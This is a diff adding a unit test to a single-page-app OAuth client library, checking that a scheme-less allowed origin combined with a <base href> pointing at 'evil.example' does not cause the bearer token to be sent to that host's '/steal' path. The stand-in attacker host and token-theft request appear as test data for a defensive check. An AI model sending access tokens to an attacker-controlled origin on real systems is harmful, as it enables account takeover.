@@ -750,3 +750,14 @@ test('login with scope "" asks for no scope, not the configured one', async () =
   assert.equal(b.calls[0].body.has('scope'), false);
   assert.equal(b.calls[1].body.get('scope'), 'read write');
 });
+
+test('an allowed origin without a scheme is dropped also when a <base href> is on the page at login', async () => {
+  const b = browser({
+    baseURI: 'https://evil.example/',
+    route: (call) => (call.url === TOKEN_URL ? tokenResponse('a1', 'r1', 3600) : json(200, {})),
+  });
+  b.client.configure({ clientId: 'demo-spa', tokenEndpoint: TOKEN_URL, allowedOrigins: ['api.example'] });
+  assert.equal((await b.client.login('johndoe', 'foobar42')).error, undefined);
+  await b.client.fetch('https://evil.example/steal');
+  assert.equal(bearerOf(b.calls.at(-1)), null, 'the token went to the <base> origin');
+});
